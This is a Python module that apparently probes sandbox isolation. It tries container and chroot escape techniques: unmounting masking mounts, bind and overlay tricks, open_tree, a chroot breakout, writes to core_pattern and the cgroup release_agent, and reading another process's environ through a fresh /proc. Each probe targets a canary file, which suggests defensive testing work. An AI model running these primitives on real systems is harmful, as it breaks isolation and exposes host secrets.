"""Taking masks off, and making other views of the host's files."""

import ctypes
import os
import subprocess

from common import (CLONE_NEWCGROUP, CLONE_NEWNS, CLONE_NEWPID, LIBC, attempt, call, checked, found, new_user_namespace,
                    read)

MS_BIND, MS_REC, MS_PRIVATE, MS_REMOUNT, MS_RDONLY = 4096, 16384, 1 << 18, 32, 1
MNT_DETACH, MNT_FORCE = 2, 1


def mount(source, target, kind, flags=0, data=None):
    LIBC.mount.argtypes = [ctypes.c_char_p, ctypes.c_char_p, ctypes.c_char_p, ctypes.c_ulong, ctypes.c_char_p]
    text = [one.encode() if one is not None else None for one in (source, target, kind)]
    checked(LIBC.mount(*text, flags, data.encode() if data else None))


def points():
    """Where something is mounted, the deepest first."""
    with open("/proc/self/mountinfo", encoding="utf-8") as file:
        all_points = [line.split()[4] for line in file]
    return sorted(all_points, key=len, reverse=True)


def take_off_all(facts):
    """Takes off whatever can be taken off, and says what is below."""
    last = OSError(1, "nothing is mounted")
    for point in points():
        if point in ("/proc", "/"):
            continue
        for flags in (0, MNT_DETACH, MNT_FORCE):
            if LIBC.umount2(point.encode(), flags) == 0:
                break
            last = OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    for path in (facts["masked"],):
        try:
            return found(read(path)) or "the file"
        except OSError:
            continue
    raise last


@attempt
def unmask(facts, token):
    """Unmounts the masks. Outside, a mask is made first, as one would make it who does not lock it."""
    if facts["outside"]:
        mask(facts)
    return take_off_all(facts)


def mask(facts):
    if os.getuid():
        new_user_namespace(CLONE_NEWNS)
    else:
        call("unshare", CLONE_NEWNS)
    mount(None, "/", None, MS_REC | MS_PRIVATE)
    mount("none", os.path.dirname(facts["masked"]), "tmpfs")


@attempt
def unmask_as_own_root(facts, token):
    """The same as root of a user namespace of its own."""
    if facts["outside"]:
        mask(facts)
    else:
        new_user_namespace(CLONE_NEWNS)
    return take_off_all(facts)


@attempt
def unmask_by_exchange(facts, token):
    """Moves a mask away, binds what is below, or turns the tree over."""
    if facts["outside"]:
        mask(facts)
    else:
        new_user_namespace(CLONE_NEWNS)
    folder = os.path.dirname(facts["masked"])
    os.makedirs("aside", exist_ok=True)
    aside = os.path.abspath("aside")
    last = OSError(1, "nothing was tried")
    for one in points():
        for source in (one, folder, "/"):
            for flags in (8192, MS_BIND):
                try:
                    mount(source, aside, None, flags)
                except OSError as error:
                    last = error
                    continue
                for path in (facts["masked"], aside + facts["masked"], f"{aside}/{os.path.basename(facts['home_secret'])}"):
                    try:
                        got = found(read(path))
                    except OSError as error:
                        last = error
                        continue
                    if got:
                        return got
                LIBC.umount2(aside.encode(), MNT_DETACH)
    raise last


@attempt
def clone_tree(facts, token):
    """A detached copy of the tree, without what is mounted on it."""
    if os.getuid() or not facts["outside"]:
        new_user_namespace(CLONE_NEWNS)
    path = os.path.dirname(facts["masked"])
    last = None
    for at in (path, "/", os.path.dirname(path), "/home"):
        try:
            tree = call("open_tree", -100, ctypes.c_char_p(at.encode()), 1)
            rest = os.path.relpath(facts["masked"], at)
            return found(os.read(os.open(rest, os.O_RDONLY, dir_fd=tree), 4096))
        except OSError as error:
            last = error
    raise last


@attempt
def make_writable(facts, token):
    """Remounts the settings of the kernel for writing."""
    if os.getuid() or not facts["outside"]:
        new_user_namespace(CLONE_NEWNS)
    else:
        call("unshare", CLONE_NEWNS)
    last = None
    for at in ("/proc/sys", "/sys", "/proc"):
        try:
            mount(None, at, None, MS_REMOUNT | MS_BIND)
            with open("/proc/sys/kernel/core_pattern", encoding="ascii") as file:
                held = file.read()
            with open("/proc/sys/kernel/core_pattern", "w", encoding="ascii") as file:
                file.write(held)
            return "written"
        except OSError as error:
            last = error
    raise last


@attempt
def new_file_system(facts, token, kind):
    """A file system of the kernel's own, mounted anew, that shows or changes the host."""
    flags = CLONE_NEWNS | (CLONE_NEWCGROUP if kind.startswith("cgroup") else 0)
    if os.getuid() or not facts["outside"]:
        new_user_namespace(flags)
    else:
        call("unshare", flags)
        mount(None, "/", None, MS_REC | MS_PRIVATE)
    mine = f"fresh-{kind}"
    os.makedirs(mine, exist_ok=True)
    at = os.path.abspath(mine)
    if kind == "overlay":
        for name in ("upper", "working"):
            os.makedirs(name, exist_ok=True)
        below = os.path.dirname(facts["masked"])
        mount("overlay", at, "overlay", 0, f"lowerdir={below},upperdir={os.path.abspath('upper')},workdir={os.path.abspath('working')}")
        return found(read(f"{at}/{os.path.basename(facts['home_secret'])}"))
    if kind == "cgroup":
        mount("none", at, "cgroup", 0, "cpu")
        with open(f"{at}/release_agent", encoding="ascii") as file:
            held = file.read()
        with open(f"{at}/release_agent", "w", encoding="ascii") as file:
            file.write(held or "\n")
        return "written"
    if kind == "disk":
        mount(facts["disk_path"], at, "ext4")
        return found(read(at + facts["masked"])) or "mounted"
    mount("none", at, kind)
    if kind == "proc":
        return found(read(f"{at}/{facts['decoy']}/environ"))
    if kind == "sysfs":
        for name in ("uevent_helper", "rcu_expedited", "profiling"):
            if os.path.exists(f"{at}/kernel/{name}"):
                os.close(os.open(f"{at}/kernel/{name}", os.O_WRONLY))
                return "writable"
    return "mounted"


@attempt
def fuse(facts, token):
    """A file system whose answers the attacker makes."""
    handle = os.open("/dev/fuse", os.O_RDWR)
    os.close(handle)
    return "opened"


@attempt
def propagate(facts, token):
    """A mount in the work directory that the outside gets to see."""
    if not facts["outside"]:
        try:
            new_user_namespace(CLONE_NEWNS)
        except OSError:
            pass
        try:
            mount(None, "/", None, MS_REC | (1 << 20))
        except OSError:
            pass
    at = os.path.abspath("propagated")
    os.makedirs(at, exist_ok=True)
    mount(token, at, "tmpfs")
    return "mounted"


@attempt
def change_root(facts, token):
    """Out of a root by a working directory above it, as one leaves a bare chroot. Outside, such a one is made."""
    path = facts["masked"]
    if os.getuid() or not facts["outside"]:
        new_user_namespace(0)
    os.makedirs("cell", exist_ok=True)
    if facts["outside"]:
        os.chroot(facts["work"])
        os.chdir("/")
    os.chroot("cell")
    for _ in range(60):
        os.chdir("..")
    os.chroot(".")
    return found(read(path))


@attempt
def fresh_processes(facts, token):
    """Mounts a new /proc as root of a new pid namespace, and writes a setting through it."""
    flags = CLONE_NEWNS | CLONE_NEWPID
    if os.getuid() or not facts["outside"]:
        new_user_namespace(flags)
    else:
        call("unshare", flags)
        mount(None, "/", None, MS_REC | MS_PRIVATE)
    os.makedirs("processes", exist_ok=True)
    script = ("import ctypes,os,sys\n"
              "libc=ctypes.CDLL(None,use_errno=True)\n"
              "at=os.path.abspath('processes').encode()\n"
              "if libc.mount(b'none',at,b'proc',0,None): sys.exit(ctypes.get_errno())\n"
              "p=at.decode()+'/sys/kernel/core_pattern'\n"
              "try:\n"
              "  held=open(p).read(); open(p,'w').write(held); print('written')\n"
              "except OSError as error: sys.exit(error.errno)\n")
    done = subprocess.run(["/usr/bin/python3", "-c", script], capture_output=True, check=False)
    if done.returncode:
        raise OSError(done.returncode, "in the new namespace")
    return done.stdout.decode()
